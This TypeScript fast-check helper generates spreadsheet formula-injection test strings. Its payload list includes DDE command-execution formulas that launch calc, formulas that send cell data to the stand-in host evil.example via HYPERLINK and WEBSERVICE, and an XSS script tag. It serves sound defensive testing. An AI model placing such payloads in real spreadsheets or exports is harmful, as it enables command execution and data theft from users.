import fc from 'fast-check';

/** Texts known to have been calculated, or carried out, from a cell that somebody else had filled. */
const known: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '=1+1"',
  '"=1+1',
  '""=1+1',
  "'=1+1",
  "''=1+1",
  ' =1+1',
  '   =1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  'Bar,=1+1',
  'Bar;=1+1',
  'Bar|=1+1',
  'Bar\t=1+1',
  'Bar\n=1+1',
  'Bar",=1+1,"',
  'Bar";=1+1;"',
  '",=1+1',
  "=cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  '=DDE("soffice";"a.ods";"Sheet1.A1")',
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=IMPORTXML("http://evil.example","//a")',
  '=IMAGE("http://evil.example/a.png")',
  '=INDIRECT("A1")',
  '{=1+1}',
  '+SUM(1;2)',
  '-SUM(1;2)',
  '=1+1\u0000',
  '\u0000=1+1',
  '\u0007=1+1',
  '<script>alert(1)</script>',
  '&amp;=1+1',
  ']]>=1+1',
  '_x003D_1+1',
  '1E5',
  '0012',
  '1/2',
  'TRUE',
];

const signs = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  ',',
  ';',
  '|',
  '\t',
  '\r',
  '\n',
  ' ',
  '"',
  "'",
  '\u00a0',
];
const values = ['1+1', 'SUM(1;1)', "cmd|' /C calc'!A0", 'A1', 'Bar', '0', 'é', '😀'];

/** As many different ones as asked for: the known ones, then mixtures of their signs; always the same. */
export function hostileTexts(count: number): string[] {
  const parts = fc.constantFrom(...signs, ...values);
  const mixtures = fc.array(parts, { minLength: 2, maxLength: 6 }).map((some) => some.join(''));
  const texts = new Set(known);
  for (const text of fc.sample(mixtures, { numRuns: count * 3, seed: 15 })) {
    if (texts.size === count) break;
    texts.add(text);
  }
  return [...texts];
}
